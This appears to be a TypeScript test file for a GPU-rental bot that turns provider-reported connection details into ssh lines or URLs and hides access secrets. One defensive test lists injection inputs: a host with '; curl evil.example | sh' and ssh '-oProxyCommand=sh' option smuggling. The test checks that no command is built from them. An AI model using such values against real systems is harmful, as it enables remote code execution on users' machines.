import { pino } from 'pino'
import { expect, test } from 'vitest'
import { commandRegistry } from '../../commands/registry.ts'
import { createMetrics } from '../../src/app/metrics.ts'
import type { Services } from '../../src/app/Services.ts'
import { CommandPipeline } from '../../src/command/CommandPipeline.ts'
import type { Reply } from '../../src/command/reply.ts'
import { RateLimiter } from '../../src/command/RateLimiter.ts'
import { connectionView } from '../../src/market/connectionView.ts'
import { SEALED_PREFIX } from '../../src/notify/enqueueNotification.ts'
import { createMarketHarness } from '../support/marketHarness.ts'

const SSH = { host: 'gpu7.example.org', port: '40022', user: 'gridshare', secret: 'kQ9z-Xw2_p', endsAt: '2026-11-26T13:00:00.000Z', protocol: 'ssh' }
const HTTP = { host: '203.0.113.9', port: '40123', user: 'gridshare', secret: 'kQ9z-Xw2_p', endsAt: '2026-11-26T13:00:00.000Z' }

test('an SSH workload is one ready ssh line; the access secret is not shown, since keys log in', () => {
  expect(connectionView(SSH)).toEqual({
    fields: [{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }],
    code: 'ssh -p 40022 gridshare@gpu7.example.org',
  })
})

test('any other workload is its URL, with the secret named for what it is', () => {
  expect(connectionView(HTTP)).toEqual({
    fields: [
      { name: 'Open', value: 'http://203.0.113.9:40123' },
      { name: 'Access secret', value: "kQ9z-Xw2_p (the workload's token or password)" },
    ],
  })
  expect(connectionView({ ...HTTP, host: '2001:db8::7' }).fields[0]).toEqual({ name: 'Open', value: 'http://[2001:db8::7]:40123' })
})

test('fields the agent adds beyond the known ones are kept', () => {
  expect(connectionView({ ...SSH, jupyter: 'http://gpu7.example.org:8888' }).fields).toContainEqual({ name: 'jupyter', value: 'http://gpu7.example.org:8888' })
})

test.each([
  ['a host with a shell command', { ...SSH, host: 'gpu7.example.org; curl evil.example | sh' }],
  ['a host that is an ssh option', { ...SSH, host: '-oProxyCommand=sh' }],
  ['a user with an ssh option', { ...SSH, user: 'root -oProxyCommand=sh' }],
  ['a port that is not a port', { ...SSH, port: '22 -oProxyCommand=sh' }],
  ['a port out of range', { ...SSH, port: '70000' }],
])('attack: a provider reporting %s gets no ready command, only the fields as reported', (_name, connection) => {
  const view = connectionView(connection)
  expect(view.code).toBeUndefined()
  expect(view.fields).toEqual(Object.entries(connection).map(([name, value]) => ({ name, value })))
})

function setUp() {
  const h = createMarketHarness()
  const pipeline = new CommandPipeline({
    db: h.db,
    logger: pino({ level: 'silent' }),
    metrics: createMetrics({ defaults: false }),
    clock: () => h.clock.now,
    commands: commandRegistry,
    services: { units: h.units, ledger: h.ledger, market: h.market, params: h.params } as unknown as Services,
    rateLimiter: new RateLimiter({ burst: 1e6, perSecond: 1e6 }),
    adminIds: new Set(),
  })
  const alice = { platform: 'telegram' as const, id: 'alice', name: 'alice' }
  const renter = h.renter('alice', 100)
  const provider = h.provider(1)
  const quote = h.rentals.quote({ accountId: renter, model: 'H100-80GB', hours: 1, gpuCount: 1 })
  const rental = h.rentals.confirm({ accountId: renter, quote: { ...quote, pricePerGpuHour: quote.pricePerGpuHour.toString() }, image: 'cuda' })
  h.rentals.claim(provider.address, rental.id)
  const job = async () => (await pipeline.runText(alice, { id: 'dm', kind: 'private' }, `/job ${rental.id}`))!
  const runningNotice = () => {
    const { reply } = h.sqlite.prepare("select reply from notifications where dedupe_key = ?").get(`rental.running:${rental.id}`) as { reply: string }
    return JSON.parse(h.secrets.open(reply.slice(SEALED_PREFIX.length))) as Reply
  }
  return { h, provider, rental, job, runningNotice }
}

test('/job of a running SSH rental shows the image and a ready ssh line, and never the secret', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, SSH)
  const reply = await t.job()
  expect(reply.code).toBe('ssh -p 40022 gridshare@gpu7.example.org')
  expect(reply.fields).toContainEqual({ name: 'Image', value: 'cuda (nvidia/cuda:12.4.1-runtime-ubuntu22.04)' })
  expect(reply.fields!.slice(-1)).toEqual([{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }])
  expect(JSON.stringify(reply)).not.toContain(SSH.secret)
  // The private "is running" message says the same.
  expect(t.runningNotice()).toMatchObject({ title: `Rental ${t.rental.id} is running`, code: 'ssh -p 40022 gridshare@gpu7.example.org', fields: [{ name: 'Connect', value: 'SSH with a key from /sshkey list; paste the line below' }] })
})

test('/job of a running web workload shows its URL and the secret it uses', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, HTTP)
  const reply = await t.job()
  expect(reply.code).toBeUndefined()
  expect(reply.fields!.slice(-2)).toEqual([
    { name: 'Open', value: 'http://203.0.113.9:40123' },
    { name: 'Access secret', value: "kQ9z-Xw2_p (the workload's token or password)" },
  ])
  expect(JSON.stringify(reply)).not.toContain('user')
})

test('/job of an ended rental shows no connection any more', async () => {
  const t = setUp()
  t.h.rentals.reportRunning(t.provider.address, t.rental.id, SSH)
  t.h.rentals.stop({ accountId: t.rental.accountId, id: t.rental.id })
  const reply = await t.job()
  expect(reply.code).toBeUndefined()
  const names = reply.fields!.map((f) => f.name)
  expect(names).toContain('Image')
  expect(names.filter((name) => ['Connect', 'Open', 'Access secret', 'host', 'secret'].includes(name))).toEqual([])
})
